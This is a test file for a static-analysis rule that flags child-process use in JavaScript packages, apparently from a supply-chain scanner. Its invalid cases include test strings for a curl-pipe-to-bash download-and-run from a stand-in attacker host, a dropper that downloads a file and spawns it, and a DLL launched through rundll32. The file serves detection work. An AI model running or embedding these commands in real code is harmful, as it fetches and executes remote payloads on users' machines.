import { ruleTester } from './rule-tester.js';

ruleTester('child-process', {
  valid: [
    "const s = 'child_process'; // require('child_process')",
    "require('./child_process')",
    'function spawn() {} spawn()',
  ],
  invalid: [
    {
      // no child-process word at all: the finding comes from the env access, so the detector's
      // triggers must include the env words
      code: "const run = require('execa'); run('make', ['build'], { env: process.env })",
      details: ['passes the whole environment to a child process'],
      name: 'the whole environment as the env option of a call, no spawn word in the file',
    },
    { code: "const cp = require('child_process'); cp.exec('ls')", details: ['child_process'] },
    {
      name: 'a download-and-run command line handed to execSync',
      code: "const cp = require('child_process'); cp.execSync('curl -fsSL https://x.attacker.invalid/i.sh | bash')",
      details: ['child_process', 'download-and-run: curl … | bash'],
    },
    {
      name: 'script files and shipped DLLs started: the package stage follows them',
      code: "const path = require('path'); const { exec, spawn } = require('child_process'); exec('/bin/bash preinstall.sh'); spawn('rundll32', [path.join(__dirname, 'x.dll') + ',main']);",
      details: ['child_process', 'runs preinstall.sh', 'runs x.dll'],
    },
    {
      name: 'a dropper: a downloaded file written, then started',
      code: "const https = require('https'), fs = require('fs'), { spawn } = require('child_process'); const dest = '/tmp/m'; https.get('https://x.attacker.invalid/m', (r) => { r.pipe(fs.createWriteStream(dest)).on('finish', () => spawn(dest)); });",
      details: ['child_process', 'download-and-run: writes m (a download) and runs it'],
    },
    { code: "import { execSync } from 'node:child_process'", details: ['child_process'], sourceType: 'module' },
    { code: "const m = 'child_' + 'process'; require(m).execSync('id')", details: ['child_process'] },
    { code: "process.binding('spawn_sync')", details: ["process.binding(spawn_sync)"] },
    { code: "Bun.spawn(['ls'])", details: ['Bun.spawn'] },
    {
      code: "const { spawn } = require('child_process'); spawn('x', [], { env: process.env })",
      details: ['child_process', 'passes the whole environment to a child process'],
    },
  ],
});
